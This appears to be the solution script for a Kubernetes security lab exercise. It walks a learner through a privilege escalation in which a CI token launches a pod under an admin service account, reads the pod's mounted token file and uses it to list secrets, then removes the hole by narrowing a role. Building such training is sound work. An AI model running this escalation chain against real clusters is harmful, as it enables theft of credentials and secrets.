# Solution for 12-lab-pod-escalation.yaml: the lines a learner types, step by step.
# Check it: saplay check web/exercises/12-lab-pod-escalation.yaml --solution web/exercises/solutions/12-lab-pod-escalation.sh
# attack: The attack
CI=$(kubectl create token ci -n apps)
kubectl --token=$CI -n apps get secrets
kubectl --token=$CI -n apps run thief --image=nginx --overrides='{"spec":{"serviceAccountName":"admin-bot"}}'
STOLEN=$(kubectl --token=$CI -n apps exec thief -- cat /var/run/secrets/kubernetes.io/serviceaccount/token)
kubectl --token=$STOLEN -n apps get secrets
# fix: The fix
kubectl delete pod thief -n apps --grace-period=0 --force
kubectl delete role ci-runner -n apps
kubectl create role ci-runner -n apps --verb=get,list --resource=pods
# attack-again: The same attack
kubectl --token=$CI -n apps run thief --image=nginx --overrides='{"spec":{"serviceAccountName":"admin-bot"}}'
